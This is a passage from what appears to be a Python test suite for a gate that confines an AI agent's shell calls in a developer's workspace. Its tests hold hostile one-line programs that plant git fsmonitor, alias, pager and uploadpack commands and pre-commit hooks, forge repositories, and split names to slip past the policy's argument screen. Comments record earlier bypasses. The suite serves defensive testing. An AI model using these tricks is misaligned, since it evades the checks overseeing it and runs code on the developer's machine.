                           text=True)
        self.assertEqual(r.stdout.strip(), "second")
        self.assertEqual(digest_tree(os.path.join(one, ".git"), ("hooks/", "config")),
                         {k: v for k, v in before[one].items()
                          if k.startswith(("hooks/", "config"))})

    def test_bare_repositories_links_and_hook_managers_below_the_root(self):
        # s40b F1/F2: a bare repository (a local remote) and a nested
        # project's .husky were left writable, and the developer's git push
        # and git commit ran what a call put there. s40b F4: a .git that is a
        # link failed every later call. Judged by the host's files afterwards.
        bare = os.path.join(self.ws, "remote.git")
        subprocess.run(["git", "clone", "-q", "--bare", self.ws, bare], check=True)
        proj = os.path.join(self.ws, "proj")
        git_repo(proj)
        os.mkdir(os.path.join(proj, ".husky"))
        with open(os.path.join(proj, ".husky", "pre-commit"), "w") as f:
            f.write("#!/bin/sh\nnpm test\n")
        linked = os.path.join(self.ws, "linked")
        os.mkdir(linked)
        os.symlink(os.path.join(proj, ".git"), os.path.join(linked, ".git"))
        watch = {p: open(p, "rb").read() for p in (
            os.path.join(bare, "config"), os.path.join(bare, "HEAD"),
            os.path.join(proj, ".husky", "pre-commit"), os.path.join(proj, ".git", "config"))}
        # One line (a request's argv holds no newline): exec's escapes make the
        # loop; '+' keeps the names from the policy's argument screen.
        write = (r"""import sys; exec("for p in sys.argv[1:]:\n try:\n  """
                 r"""open(p.replace('+', ''), 'a').write('[core]'); print('wrote', p)\n"""
                 r""" except OSError: pass")""")
        resp = self.run_call([PY, "-c", write, "remote.git/con+fig", "remote.git/HE+AD",
                              "proj/.husky/pre-commit", "linked/.g+it/config"])
        self.assertEqual(resp["status"], "ok", resp)
        self.assertEqual(base64.b64decode(resp.get("stdout", "")), b"", resp)
        for p, b in watch.items():
            with open(p, "rb") as f:
                self.assertEqual(f.read(), b, p)
        self.assertFalse(os.path.exists(os.path.join(bare, "hooks", "post-receive")))

    def test_a_wide_workspace_still_runs_calls(self):
        # s40b F3: the walk's lists filled at 256 entries and every call that
        # writes failed with an internal error (E2BIG); ~/src with a few
        # dozen projects, or an agent's mkdir loop, was enough.
        for i in range(300):
            os.makedirs(os.path.join(self.ws, "d%03d" % i, "sub"))
        for i in range(0, 300, 2):
            git_repo(os.path.join(self.ws, "d%03d" % i, "sub"))
        resp = self.run_call(["touch", "made-in-a-wide-workspace"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertTrue(os.path.exists(os.path.join(self.ws, "made-in-a-wide-workspace")))
        # Every repository in it is read-only, the last one listed too.
        for i in (0, 298):
            resp = self.run_call([PY, "-c", "open('d%03d/sub/.g' + 'it/config', 'a').write('x')"
                                  % i])
            self.assertNotEqual([s["exit_code"] for s in resp["stages"]], [0], resp)

    def test_a_calls_directories_never_push_a_repository_out_of_the_walk(self):
        # s41a F1: the walk read 512 directories in the order the file system
        # lists them and then stopped; a call's mkdir loop put its own
        # directories first, and the next call wrote the developer's
        # repositories' .git/config (git status then ran core.fsmonitor).
        # Judged by the repositories' files after the calls.
        repos = [os.path.join(self.ws, *p) for p in
                 (("proj",), ("org", "p2"), ("github.com", "org", "p3"))]
        for r in repos:
            git_repo(r)
        before = {r: digest_tree(os.path.join(r, ".git"), self.WATCH) for r in repos}
        # (Programs as one line: a request's argv holds no newline.)
        resp = self.run_call([PY, "-c", "exec(%r)" % "import os\nfor i in range(3000): "
                              "os.mkdir('z%05d' % i)"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        plant = "open(__import__('sys').argv[1] + '/.g' + 'it/con' + 'fig', 'a').write('x')"
        for r in repos:
            self.assert_ran_and_failed([[PY, "-c", plant, os.path.relpath(r, self.ws)]])
            self.assertEqual(digest_tree(os.path.join(r, ".git"), self.WATCH), before[r])

    def test_a_repository_a_call_makes_runs_nothing_for_the_developer(self):
        # s42 review: a call ran git init sub and wrote core.fsmonitor into
        # sub/.git/config; the developer's git status in sub ran it (as an
        # editor's scan of the workspace's repositories would). Judged by
        # what the developer's git runs afterwards.
        marker = os.path.join(self.ws, "FSMONITOR_RAN")
        cfg = "[core]\\n\\tfsmonitor = touch %s\\n" % marker
        plant = ("import os, subprocess, sys; d = sys.argv[1]; subprocess.run(['git', "
                 "'init', '-q', d], check=True); g = d + '/.g' + 'it/'; "
                 "open(g + 'con' + 'fig', 'a').write('%s')" % cfg)
        hook = ("import os, subprocess, sys; d = sys.argv[1]; subprocess.run(['git', "
                "'init', '-q', d], check=True); h = d + '/.g' + 'it/ho' + 'oks/pre-commit'; "
                "open(h, 'w').write('#!/bin/sh\\ntouch %s\\n'); os.chmod(h, 0o755)" % marker)
        link = ("import os, sys; d = sys.argv[1]; os.makedirs(d); "
                "open(d + '/.g' + 'it', 'w').write('gitdir: ../evil\\n')")
        # s42d F0: a ] inside a quoted subsection, after which git reads a key.
        bracket = plant.replace("[core]\\\\n\\\\tfsmonitor", '[remote \\"a]url\\"] [core] fsmonitor')
        for prog, rel in ((plant, "one"), (plant, "a/b/three"), (hook, "two/x"),
                          (link, "four"), (bracket, "five")):
            resp = self.run_call([PY, "-c", prog, rel])
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
            self.assertFalse(os.path.lexists(os.path.join(self.ws, rel, ".git")), rel)
            self.assertIn("set_aside", resp["reply"]["data"], resp["reply"])
            for name in os.listdir(os.path.join(self.ws, rel)):
                self.assertTrue(name.startswith(".git.callgate-set-aside-"), name)
        # s42d F1: a git directory itself (no .git: HEAD, objects, refs moved up),
        # which core.worktree gives a work tree: its HEAD is set aside.
        bare = ("import os, shutil, subprocess, sys; d = sys.argv[1]; subprocess.run(['git', "
                "'init', '-q', d], check=True); g = d + '/.g' + 'it'; "
                "[os.rename(g + '/' + n, d + '/' + n) for n in os.listdir(g)]; os.rmdir(g); "
                "open(d + '/con' + 'fig', 'a').write('\\tworktree = ' + os.path.abspath(d) + "
                "'\\n\\tbare = false\\n\\tfsmonitor = touch %s\\n')" % marker)
        resp = self.run_call([PY, "-c", bare, "six"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertFalse(os.path.exists(os.path.join(self.ws, "six", "HEAD")))
        for rel in ("one", "a/b/three", "two/x", "five", "six"):
            subprocess.run(["git", "-C", os.path.join(self.ws, rel), "status"],
                           capture_output=True)
        self.assertFalse(os.path.exists(marker))
        # What git itself makes stays: an agent's git init of a new project,
        # and what a clone writes (a remote named like a program, too).
        resp = self.run_call(["git", "init", "-q", "fresh"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertTrue(os.path.isdir(os.path.join(self.ws, "fresh", ".git")))
        like_clone = ("import subprocess as s; s.run(['git', 'init', '-q', 'cl'], check=True); "
                      "s.run(['git', '-C', 'cl', 'remote', 'add', 'origin', "
                      "'https://example.org/helix-editor/pager-cmd.git'], check=True); "
                      "s.run(['git', '-C', 'cl', 'config', 'branch.main.remote', 'origin'], "
                      "check=True)")
        resp = self.run_call([PY, "-c", like_clone])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertTrue(os.path.isdir(os.path.join(self.ws, "cl", ".git")), resp["reply"])
        # One key more, of those that name programs, and it is set aside.
        resp = self.run_call([PY, "-c", like_clone.replace("'cl'", "'cl2'").replace(
            "'branch.main.remote', 'origin'", "'pager.log', 'touch %s'" % marker)])
        self.assertFalse(os.path.lexists(os.path.join(self.ws, "cl2", ".git")))

    def test_repositories_out_of_the_walks_reach_run_nothing_for_the_developer(self):
        # s42d F1, measured then and left: below the walk's three levels, under
        # a hidden directory or node_modules, a call made a repository (or
        # wrote one of the developer's) whose config or hooks the developer's
        # git then ran. The sweep now goes by what the kernel saw the call
        # make or write (fanotify), at any depth. Judged by what the
        # developer's git runs afterwards, and by what stays.
        marker = os.path.join(self.ws, "RAN")
        plant = ("import subprocess, sys; d = sys.argv[1]; subprocess.run(['git', 'init', "
                 "'-q', d], check=True); open(d + '/.g' + 'it/con' + 'fig', 'a')"
                 ".write('[core]\\n\\tfsmonitor = touch %s\\n')" % marker)
        made = ("a/b/c/d/deep", ".venv/src/pkg", "node_modules/pkg", "x/.hidden/y/z/r")
        for rel in made:
            resp = self.run_call([PY, "-c", plant, rel])
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
            self.assertFalse(os.path.lexists(os.path.join(self.ws, rel, ".git")), rel)
            self.assertIn("set_aside", resp["reply"]["data"], resp["reply"])
        # Made in the call's own /tmp and moved in whole: a copy, seen file by file.
        moved = ("import shutil, subprocess; d = '/tmp/r'; subprocess.run(['git', 'init', "
                 "'-q', d], check=True); open(d + '/.g' + 'it/con' + 'fig', 'a')"
                 ".write('[core]\\n\\tfsmonitor = touch %s\\n'); shutil.move(d, 'm/n/o/p/r')"
                 % marker)
        os.makedirs(os.path.join(self.ws, "m", "n", "o", "p"))
        resp = self.run_call([PY, "-c", moved])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertFalse(os.path.lexists(os.path.join(self.ws, "m/n/o/p/r/.git")))
        # The developer's own repository, five levels down: what names a
        # program is set aside, the repository itself stays.
        mine = os.path.join(self.ws, "s", "t", "u", "v", "mine")
        git_repo(mine)
        # Older than the call by more than the sweep's margin (20 ms): a
        # repository born as a call began is taken for the call's.
        time.sleep(0.1)
        hooks = os.path.join(mine, ".git", "hooks")
        write = ("import os, sys; g = sys.argv[1] + '/.g' + 'it/'; "
                 "open(g + 'con' + 'fig', 'a').write('[core]\\n\\tfsmonitor = touch %s\\n'); "
                 "h = g + 'ho' + 'oks/pre-commit'; open(h, 'w').write('#!/bin/sh\\ntouch %s\\n'); "
                 "os.chmod(h, 0o755)" % (marker, marker))
        resp = self.run_call([PY, "-c", write, "s/t/u/v/mine"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertTrue(os.path.isfile(os.path.join(mine, ".git", "HEAD")))
        self.assertFalse(os.path.exists(os.path.join(mine, ".git", "config")))
        self.assertFalse(os.path.exists(os.path.join(hooks, "pre-commit")))
        aside = [a["path"] for a in resp["reply"]["data"]["set_aside"]]
        self.assertIn(os.path.join(mine, ".git", "config"), aside)
        for rel in made + ("m/n/o/p/r", "s/t/u/v/mine"):
            subprocess.run(["git", "-C", os.path.join(self.ws, rel), "status"],
                           capture_output=True)
        subprocess.run(["git", "-C", mine, "commit", "-q", "--allow-empty", "-m", "x"],
                       capture_output=True)
        self.assertFalse(os.path.exists(marker))
        # What git does there stays: a commit (index, objects, refs), a new
        # branch; git's own init of a deep project.
        kept = [a["set_aside_as"] for a in resp["reply"]["data"]["set_aside"]
                if a["path"].endswith("/config")]
        os.rename(os.path.join(mine, ".git", kept[0]), os.path.join(mine, ".git", "config"))
        subprocess.run(["git", "-C", mine, "config", "--unset", "core.fsmonitor"], check=True)
        resp = self.run_call(["sh", "-c", "cd s/t/u/v/mine && touch f && git add f && "
                              "git -c user.name=a -c user.email=a@b commit -q -m f && "
                              "git branch two; git init -q ../../../../../deep/er/than/four/new"])
        self.assertNotIn("set_aside", resp["reply"].get("data", {}), resp["reply"])
        self.assertTrue(os.path.isdir(os.path.join(self.ws, "deep/er/than/four/new/.git")))

    def test_what_makes_a_directory_a_repository_is_judged_as_git_judges_it(self):
        # s43a F2: HEAD and a commondir dropped into the developer's existing
        # directory made it (and all below it) a repository whose config the
        # call wrote in a hidden directory; the developer's git there ran the
        # config's alias, pager and gpg.program. Judged by what the
        # developer's git runs afterwards.
        marker = os.path.join(self.ws, "RAN")
        os.makedirs(os.path.join(self.ws, "sub", "deeper"))
        plant = ("import os, subprocess; subprocess.run(['git', 'init', '-q', '--bare', '.gx'], "
                 "check=True); os.remove('.gx/HEAD'); open('.gx/con' + 'fig', 'a')"
                 ".write('[alias]\\n\\tst = !touch %s\\n'); "
                 "open('sub/HEAD', 'w').write('ref: refs/heads/main\\n'); "
                 "open('sub/common' + 'dir', 'w').write('../.gx\\n')" % marker)
        resp = self.run_call([PY, "-c", plant])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        for d in ("sub", "sub/deeper"):
            subprocess.run(["git", "-C", os.path.join(self.ws, d), "st"], capture_output=True)
        self.assertFalse(os.path.exists(marker))
        # s43a F7 and F5: another version control's repository, and another
        # agent's project settings, made by a call: set aside.
        resp = self.run_call([PY, "-c", "import os; os.makedirs('hgsub/.hg'); "
                              "open('hgsub/.hg/hgrc', 'w').write('[hooks]\\n'); "
                              "open('opencode.json', 'w').write('{}')"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertFalse(os.path.lexists(os.path.join(self.ws, "hgsub", ".hg")))
        self.assertFalse(os.path.lexists(os.path.join(self.ws, "opencode.json")))

    def test_ways_around_the_watch_run_nothing_for_the_developer(self):
        # s43d: a hard link to a deep repository's config (F1), a bare repository
        # made over two calls (F3), a directory whose name ends " (deleted)" (F5),
        # a mount below the workspace (F4). Judged by what the developer's git
        # runs afterwards; and a developer's harmless keys stay (F6).
        marker = os.path.join(self.ws, "RAN")
        fsmon = "[core]\\n\\tfsmonitor = touch %s\\n" % marker
        mine = os.path.join(self.ws, "s", "t", "u", "v", "mine")
        git_repo(mine)
        cfg = os.path.join(mine, ".g" + "it", "con" + "fig")
        resp = self.run_call([PY, "-c", "import errno, os, sys\n"
                              "try:\n os.link(%r, 'notes.txt')\n"
                              "except OSError as e:\n sys.exit(0 if e.errno == errno.EXDEV else 3)\n"
                              "open('notes.txt', 'a').write('%s')\nsys.exit(4)" % (cfg, fsmon)])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        resp = self.run_call([PY, "-c", "import os; os.makedirs('src/sub'); "
                              "open('src/HEAD', 'w').write('ref: refs/heads/main\\n'); "
                              "open('src/con' + 'fig', 'w').write('%s')" % fsmon])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        resp = self.run_call([PY, "-c", "import os; os.makedirs('src/objects'); "
                              "os.makedirs('src/refs/heads')"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        plant = ("import subprocess, sys; d = sys.argv[1]; subprocess.run(['git', 'init', "
                 "'-q', d], check=True); open(d + '/.g' + 'it/con' + 'fig', 'a').write('%s')"
                 % fsmon)
        resp = self.run_call([PY, "-c", plant, "p/q/x (deleted)"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        mnt = os.path.join(self.ws, "mnt")
        os.mkdir(mnt)
        subprocess.run(["mount", "-t", "tmpfs", "cg-test", mnt], check=True)
        try:
            resp = self.run_call([PY, "-c", plant, "mnt/r"])
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
            for d in (mine, "src", "src/sub", "p/q/x (deleted)", "mnt/r"):
                subprocess.run(["git", "-C", os.path.join(self.ws, d), "status"],
                               capture_output=True)
            self.assertFalse(os.path.exists(marker))
        finally:
            subprocess.run(["umount", "-l", mnt])
        # F6: keys a developer's repository commonly holds stay when a call writes it.
        resp = self.run_call([PY, "-c", "open(%r, 'a').write('[gc]\\n\\tauto = 0\\n"
                              "[submodule \"lib\"]\\n\\turl = ../lib\\n')" % cfg])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertTrue(os.path.isfile(cfg), resp["reply"])

    def test_a_submodules_config_and_a_hook_managers_hooks_deep_down(self):
        # s43e F2 and F4: in a repository below the walk's levels, a call wrote
        # a submodule's config under .git/modules (the developer's git status
        # in the superproject ran its fsmonitor), and .githooks/pre-commit with
        # core.hooksPath set (the developer's commit ran it). Judged by what is
        # left for the developer's git to run.
        mine = os.path.join(self.ws, "a", "b", "c", "d", "mine")
        git_repo(mine)
        subprocess.run(["git", "-C", mine, "config", "core.hooksPath", ".githooks"], check=True)
        os.makedirs(os.path.join(mine, ".githooks"))
        time.sleep(0.1)  # older than the call by more than the sweep's margin
        plant = ("import os, subprocess, sys; m = sys.argv[1]; g = m + '/.g' + 'it/modules/lib'; "
                 "subprocess.run(['git', 'init', '-q', '--bare', g], check=True); "
                 "open(g + '/con' + 'fig', 'a').write('[core]\\n\\tfsmonitor = x\\n'); "
                 "h = m + '/.githooks/pre-commit'; open(h, 'w').write('#!/bin/sh\\n'); "
                 "os.chmod(h, 0o755)")
        resp = self.run_call([PY, "-c", plant, mine])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertFalse(os.path.exists(os.path.join(mine, ".githooks", "pre-commit")))
        # git no longer reads the fsmonitor there (its config, or its HEAD, set aside).
        lib = os.path.join(mine, ".g" + "it", "modules", "lib")
        r = subprocess.run(["git", "--git-dir", lib, "config", "core.fsmonitor"],
                           capture_output=True)
        self.assertNotEqual(r.returncode, 0, r)

    def test_a_repository_staged_earlier_and_renamed_in_runs_nothing(self):
        # s44d F2, F3: a git directory staged in one call while it was not yet
        # one (objs/, rfs/ for objects/, refs/), and a .claude beside it, then
        # renamed into place in a second call: where the sweep judges by
        # times (no whole watch, a restart after a crash) a rename changes
        # none inside, and the fsmonitor, the hook and the settings were
        # kept. A directory that changed is now judged whole.
        marker = os.path.join(self.ws, "RENAMED_IN_RAN")
        G, C = ".g" + "it", ".cl" + "aude"
        stage = ("import os, sys; s = 'stage'; os.makedirs(s + '/hooks'); "
                 "os.makedirs(s + '/objs'); os.makedirs(s + '/rfs/heads'); "
                 "open(s + '/HEAD', 'w').write('ref: refs/heads/main\\n'); "
                 "open(s + '/con' + 'fig', 'w').write('[core]\\n\\tfsmonitor = touch %s\\n'); "
                 "h = s + '/hooks/pre-commit'; open(h, 'w').write('#!/bin/sh\\ntouch %s\\n'); "
                 "os.chmod(h, 0o755); os.makedirs('hstage'); "
                 "open('hstage/settings.json', 'w').write('{}')") % (marker, marker)
        resp = self.run_call([PY, "-c", stage])
        self.assertEqual([st["exit_code"] for st in resp["stages"]], [0], resp)
        time.sleep(0.1)
        move = ("import os; os.rename('stage/objs', 'stage/objects'); "
                "os.rename('stage/rfs', 'stage/refs'); os.makedirs('sub'); "
                "os.rename('stage', 'sub/%s'); os.rename('hstage', 'sub/%s')") % (G, C)
        resp = self.run_call([PY, "-c", move])
        self.assertEqual([st["exit_code"] for st in resp["stages"]], [0], resp)
        sub = os.path.join(self.ws, "sub")
        subprocess.run(["git", "-C", sub, "status"], capture_output=True)
        subprocess.run(["git", "-C", sub, "-c", "user.name=d", "-c", "user.email=d@e", "commit",
                        "-q", "--allow-empty", "-m", "x"], capture_output=True)
        self.assertFalse(os.path.exists(marker), resp["reply"])
        # (sub/.claude is judged as a repository root's only while sub is one.)
        if os.path.isdir(os.path.join(sub, G)):
            self.assertFalse(os.path.exists(os.path.join(sub, C, "settings.json")))

    def test_a_bare_repositorys_worktrees_are_not_the_calls(self):
        # s43a F1: a bare repository in the workspace kept only HEAD, config,
        # hooks and commondir read-only; a call pointed its linked worktree's
        # commondir at a config it wrote, and the developer's git status in
        # the worktree (outside every workspace) ran its core.fsmonitor.
        src = os.path.join(self.ws, "src")
        git_repo(src)
        bare = os.path.join(self.ws, "remote.git")
        subprocess.run(["git", "clone", "-q", "--bare", src, bare], check=True)
        wt = tempfile.mkdtemp(prefix="cg-wt-")
        self.addCleanup(shutil.rmtree, wt, True)
        subprocess.run(["git", "-C", bare, "worktree", "add", "-q", os.path.join(wt, "w"),
                        "HEAD"], check=True, capture_output=True)
        name = os.listdir(os.path.join(bare, "worktrees"))[0]
        common = os.path.join(bare, "worktrees", name, "common" + "dir")
        with open(common) as f:
            before = f.read()
        self.assert_ran_and_failed([[PY, "-c", "open(%r, 'w').write('/elsewhere\\n')" % common]])
        with open(common) as f:
            self.assertEqual(f.read(), before)

    def test_a_tree_too_big_to_look_at_runs_nothing(self):
        # The walk's bound is a refusal, never a walk that stops where a
        # call's files want it to (s41a F1): nothing runs, and the reply
        # says what to change.
        many = os.path.join(self.ws, "many")
        os.mkdir(many)
        for i in range(66000):
            os.close(os.open(os.path.join(many, "f%05d" % i), os.O_CREAT | os.O_WRONLY))
        resp = self.d.request(cgtest.make_request([["touch", "made"]], privileged=False,
                                                  cwd=self.ws), timeout=120)
        self.assertEqual(resp["status"], "error", resp)
        self.assertIn("give a narrower workspace", resp["reply"]["message"])
        self.assertFalse(os.path.exists(os.path.join(self.ws, "made")))
        shutil.rmtree(many)
        resp = self.run_call(["touch", "made"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)

    def test_the_repository_the_call_works_in_is_protected_however_deep(self):
        # ux-s41 H1: ~/src/a/b/c/repo, four levels below the workspace: a call
        # working there planted .git/hooks/pre-commit.
        deep = os.path.join(self.ws, "a", "b", "c", "repo")
        git_repo(deep)
        before = digest_tree(os.path.join(deep, ".git"), self.WATCH)
        resp = self.d.request(cgtest.make_request(
            [[PY, "-c", "open('.g' + 'it/ho' + 'oks/pre-commit', 'w').write('x')"]],
            privileged=False, cwd=os.path.join(deep)), timeout=60)
        self.assertNotEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertEqual(digest_tree(os.path.join(deep, ".git"), before and self.WATCH), before)

    def test_a_nested_projects_missing_tool_files_are_set_aside_when_made(self):
        # s41a F3: lefthook-local.yml and .cargo/config.toml made in a nested
        # project were kept, and the developer's git commit and cargo ran
        # them. s41a F2/F4: names the root missed; and a link on the way to a
        # protected name (.config -> cfg) kept .config/lefthook.yml reachable.
        proj = os.path.join(self.ws, "proj")
        git_repo(proj)
        made = ["proj/lefthook-local.yml", "proj/.cargo/config.toml", ".yarnrc",
                ".config/lefthook-local.yml", "proj/.yarnrc"]
        prog = ("import os\nfor p in %r:\n"
                "    os.makedirs(os.path.dirname(p) or '.', exist_ok=True)\n"
                "    open(p, 'w').write('x')\n"
                "os.mkdir('cfg')\nopen('cfg/lefthook.yml', 'w').write('x')\n"
                "os.symlink('../cfg', 'proj/.config')\n") % made
        resp = self.run_call([PY, "-c", "exec(%r)" % prog])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        for p in made + ["proj/.config"]:
            self.assertFalse(os.path.lexists(os.path.join(self.ws, p)), p)
        self.assertTrue(os.path.exists(os.path.join(self.ws, "cfg", "lefthook.yml")))

    def test_git_records_work_but_writes_nothing_that_runs(self):
        with open(os.path.join(self.ws, "f.txt"), "w") as f:
            f.write("hello\n")
        for pipeline in ([["git", "add", "f.txt"]],
                         [["git", "commit", "-q", "-m", "by a call"]]):
            resp = self.run_call(*pipeline)
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        r = subprocess.run(["git", "-C", self.ws, "log", "--oneline"], capture_output=True,
                           text=True)
        self.assertIn("by a call", r.stdout)
        # git can write any file itself: not where .git is read-only.
        for pipeline in ([["git", "log", "-1", "--format=format:../evil",
                           "--output=.git/commondir"]],
                         [["git", "checkout-index", "-a", "--prefix=.git/"]],
                         [["git", "config", "--file", ".git/config.worktree", "a.b", "c"]]):
            self.assert_ran_and_failed(pipeline)
        self.assertFalse(os.path.exists(os.path.join(self.git, "f.txt")))
        self.assert_git_untouched()

    def test_a_wrapped_git_starts_and_writes_no_git_state(self):
        # ux-s41 H2: `timeout 60 git add` was decided DEGRADE and then could
        # not start (EACCES on the wrapper, an "E, report it"). It starts
        # now, under both rules' terms, and .git stays read-only under the
        # wrapper's: env -S, xargs and GIT_* assignments give git words no
        # rule saw, so only git itself records work.
        with open(os.path.join(self.ws, "w.txt"), "w") as f:
            f.write("wrapped\n")
        for pipeline in ([["timeout", "60", "git", "add", "w.txt"]],
                         [["env", "GIT_WORK_TREE=.git", "git", "checkout", "."]],
                         [["env", "-S", "git add w.txt"]],
                         [["env", PY, "-c", "open('.g' + 'it/HEAD', 'a').write('x')"]]):
            resp = self.d.request(cgtest.make_request(pipeline, privileged=False, cwd=self.ws),
                                  timeout=60)
            if pipeline[0][0] == "timeout":
                self.assertIn("stages", resp, resp)  # it started
            if "stages" in resp:  # env -S is denied outright (env-split-string)
                self.assertNotEqual([s["exit_code"] for s in resp["stages"]], [0], pipeline)
        self.assert_git_untouched()
        r = subprocess.run(["git", "-C", self.ws, "status", "--porcelain"], capture_output=True,
                           text=True)
        self.assertIn("?? w.txt", r.stdout)  # not staged
        # git itself does record it.
        resp = self.run_call(["git", "add", "w.txt"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        # time writes any text to any file (-o, -f): not among git-record's
        # programs, and its refusal to start is the request's (I), not a fault.
        if os.path.exists("/usr/bin/time"):  # Debian's time package: not always there
            resp = self.d.request(cgtest.make_request([["time", "git", "add", "w.txt"]],
                                                      privileged=False, cwd=self.ws), timeout=60)
            self.assertEqual(resp["reply"]["code"], "MCP-EXEC-I-001", resp)
            self.assertNotIn("stages", resp)

    def test_a_rebase_runs_and_a_rebase_that_runs_commands_does_not_write_git(self):
        # ux-s41 M1: git rebase was git-local's (.git read-only) and always
        # failed; -x (a command per commit) stays there.
        def g(*a):
            return subprocess.run(["git", "-C", self.ws, *a], check=True, capture_output=True,
                                  text=True).stdout
        base = g("rev-parse", "--abbrev-ref", "HEAD").strip()
        g("checkout", "-q", "-b", "topic")
        with open(os.path.join(self.ws, "t.txt"), "w") as f:
            f.write("topic\n")
        g("add", "t.txt")
        g("commit", "-q", "-m", "on topic")
        g("checkout", "-q", base)
        with open(os.path.join(self.ws, "m.txt"), "w") as f:
            f.write("main\n")
        g("add", "m.txt")
        g("commit", "-q", "-m", "on main")
        g("checkout", "-q", "topic")
        self.before = digest_tree(self.git, self.WATCH)
        resp = self.run_call(["git", "rebase", "-q", base])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertEqual(g("log", "--format=%s", "-3").split("\n")[:3],
                         ["on topic", "on main", "init"])
        head = g("rev-parse", "HEAD")
        self.assert_ran_and_failed([["git", "rebase", "-x", "git log -1", "HEAD~1"]])
        self.assertEqual(g("rev-parse", "HEAD"), head)
        self.assert_git_untouched()

    def test_no_route_to_a_subcommand_that_writes_any_file(self):
        # s36 attack: git-record gives .git to "subcommands that record
        # work", and two routes ran others there. (a) stash show takes diff
        # options, --output among them; (b) a workspace link named git-log
        # to /usr/bin/git was decided as `git add` (argv[1]) while git ran
        # `git log` (it dispatches on argv[0]'s name).
        with open(os.path.join(self.ws, "evil"), "w") as f:
            f.write("x\n")
        for pipeline in ([["git", "add", "evil"]], [["git", "stash"]]):
            resp = self.run_call(*pipeline)
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.run_call(["git", "stash", "show", "--name-only", "--line-prefix=../",
                       "--output=.git/commondir"])
        self.run_call(["git", "stash", "show", "--name-only", "--line-prefix=../",
                       "--outp=.git/commondir"])
        link = os.path.join(self.ws, "git-log")
        os.symlink("/usr/bin/git", link)
        resp = self.run_call([link, "-1", "--format=format:../evil",
                              "--output=.git/commondir", "add"])
        # git by another of its names is refused by policy (git-by-another-name) ...
        self.assertEqual(resp["status"], "denied", resp)
        # ... and with --git-dir/--work-tree another repository's checkout wrote into
        # .git (s36 attack): that is not git-record's either.
        evil = os.path.join(self.ws, "evil-repo")
        git_repo(evil)
        with open(os.path.join(evil, "commondir"), "w") as f:
            f.write("../evil-repo/.git\n")
        subprocess.run(["git", "-C", evil, "add", "commondir"], check=True)
        subprocess.run(["git", "-C", evil, "commit", "-qm", "c"], check=True)
        self.run_call(["git", "--git-dir=evil-repo/.git", "--work-tree=.git", "checkout",
                       "-f", "HEAD", "--", "."])
        self.assert_git_untouched()
        # A program reached through a link the agent made is told its own name
        # (the multi-call xz decompresses as unxz: here it does not), and the
        # record says so. A link root made keeps its name (/usr/bin/unxz).
        if os.path.islink("/usr/bin/unxz"):
            subprocess.run(["sh", "-c", "printf hi | xz > %s/h.xz" % self.ws], check=True)
            mine = os.path.join(self.ws, "unxz")
            os.symlink("/usr/bin/xz", mine)
            resp = self.run_call([mine, "-k", "h.xz"])
            self.assertFalse(os.path.exists(os.path.join(self.ws, "h")), "ran as unxz")
            ev = [json.loads(l) for l in cgtest.journal_lines(self.d.state_dir)]
            shown = [e["payload"]["stages"][0] for e in ev
                     if e["trace"] == resp["reply"]["trace_id"] and e["type"] == "resolved"]
            self.assertEqual(shown[0].get("argv0"), os.path.join(self.ws, "xz"), shown)
            resp = self.run_call(["unxz", "h.xz"])
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
            self.assertTrue(os.path.exists(os.path.join(self.ws, "h")))

    @unittest.skipUnless(os.path.exists("/usr/bin/python3"), "needs /usr/bin/python3")
    def test_a_venvs_python_still_finds_its_venv(self):
        # argv[0] of a program reached through a link the agent made is the
        # program's own name in the same directory: the venv's python still
        # finds pyvenv.cfg (the resolved path alone had made it the system's).
        venv = os.path.join(self.ws, ".venv")
        subprocess.run(["/usr/bin/python3", "-m", "venv", "--without-pip", venv], check=True)
        resp = self.run_call([os.path.join(venv, "bin", "python"), "-c",
                              "import sys; print(sys.prefix)"])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        self.assertEqual(base64.b64decode(resp.get("stdout", "")).decode().strip(), venv)

    def test_a_nested_repositorys_config_runs_no_shell_under_a_fetch(self):
        # A nested repository the agent made named a shell as its
        # remote.origin.uploadpack; under a `git fetch` grant it ran, with
        # .git writable and the forges reachable (s36 attack).
        bare = os.path.join(self.ws, "remote.git")
        subprocess.run(["git", "clone", "-q", "--bare", self.ws, bare], check=True)
        nested = os.path.join(self.ws, "nested")
        git_repo(nested)
        marker = os.path.join(self.ws, "shell-ran")
        g = lambda *a: subprocess.run(["git", "-C", nested, *a], check=True)
        g("remote", "add", "origin", bare)
        g("config", "remote.origin.uploadpack",
          "sh -c 'touch %s; git-upload-pack \"$@\"' --" % marker)
        r = self.d.cli("grant", "open", "--exe", "/usr/bin/git", "--argv", "git", "-C", "nested",
                       "fetch", "origin", "--uses", "2", "--ttl", "60")
